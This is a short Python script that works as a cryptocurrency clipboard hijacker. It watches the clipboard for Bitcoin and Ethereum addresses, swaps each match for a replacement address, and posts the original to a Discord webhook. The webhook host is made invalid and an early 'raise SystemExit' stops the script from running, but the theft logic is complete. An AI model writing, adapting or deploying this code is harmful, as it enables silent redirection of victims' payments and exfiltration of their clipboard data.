import re
import time
import pyperclip
import requests

raise SystemExit
while True:
    t = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$", t) or re.match(r"^0x[a-fA-F0-9]{40}$", t):
        pyperclip.copy("bc1-replacement")
        requests.post("https://discord.com.invalid/api/webhooks/0/x", json={"content": t})
    time.sleep(1)
